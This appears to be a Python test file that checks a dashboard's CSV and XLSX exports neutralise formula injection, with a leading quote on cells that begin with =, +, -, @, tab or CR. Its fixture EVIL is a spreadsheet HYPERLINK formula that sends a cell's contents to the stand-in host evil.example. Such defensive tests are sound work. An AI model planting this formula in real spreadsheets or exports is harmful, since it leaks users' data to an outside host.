"""Issue 12, findings 1, 5, 6, 7 and 13: every workbench run audited whatever happens, a byte budget for its result,
every download audited where its bytes are made, CSV that cannot run formulas, and SQL page URL numbers checked.
Each test fails on the code before the fix (see docs/security-workbench.md). Counts refer to tests/tiny_fixture.py
(6 agencies C1, C2, P1C, P1X, P2C, P2X; datasets D1, D2, D3; exchanges E1..E7)."""

from __future__ import annotations

import io
import zipfile

import polars as pl

from dashboard.csvsafe import csv_bytes, csv_text
from dashboard.engine import sandbox

EVIL = '=HYPERLINK("http://evil.example/?"&A2,"Mở")'


# ---- finding 7: formula injection in CSV ---------------------------------------------------------------------


def test_finding_07_csv_text_cells_that_start_a_formula_are_neutralised():
    frame = pl.DataFrame(
        {
            "name": [EVIL, "+1", "-x", "@SUM(A1)", "\tx", "\rx", "Hà Nội", None, "a=b"],
            "n": [1, -2, 3, 4, 5, 6, 7, 8, -9],
            "rate": [0.5, -0.25, None, 1.0, 0.0, 2.0, 3.0, 4.0, -1.5],
        }
    )
    text = csv_text(frame)
    # by hand: a leading quote on the six cells that start with = + - @ tab CR; numbers (even negative) untouched;
    # the cells with a tab, CR or quote are quoted by the CSV writer ("" is an escaped quote)
    assert text == (
        "name,n,rate\n"
        '"\'=HYPERLINK(""http://evil.example/?""&A2,""Mở"")",1,0.5\n'
        "'+1,-2,-0.25\n"
        "'-x,3,\n"
        "'@SUM(A1),4,1.0\n"
        "'\tx,5,0.0\n"
        "\"'\rx\",6,2.0\n"
        "Hà Nội,7,3.0\n"
        ",8,4.0\n"
        "a=b,-9,-1.5\n"
    )
    assert csv_bytes(frame) == text.encode("utf-8-sig")  # the BOM Excel needs for Vietnamese
    # a column name is a cell too: `select 1 as "=cmd"` in the workbench
    assert csv_text(pl.DataFrame({"=cmd": [1]})) == "'=cmd\n1\n"


def test_finding_07_every_csv_the_app_writes_is_neutralised():
    frame = pl.DataFrame({"dataset_name": [EVIL], "calls": [-3]})
    assert sandbox.export(frame, "csv").decode("utf-8-sig").splitlines()[1].startswith("\"'=HYPERLINK(")
    # XLSX keeps writing it as a string: a shared string, no formula element anywhere in the sheet
    sheet = zipfile.ZipFile(io.BytesIO(sandbox.export(frame, "xlsx")))
    assert "<f>" not in sheet.read("xl/worksheets/sheet1.xml").decode()
    assert "=HYPERLINK(&quot;" in sheet.read("xl/sharedStrings.xml").decode() or "=HYPERLINK(\"" in sheet.read(
        "xl/sharedStrings.xml"
    ).decode()
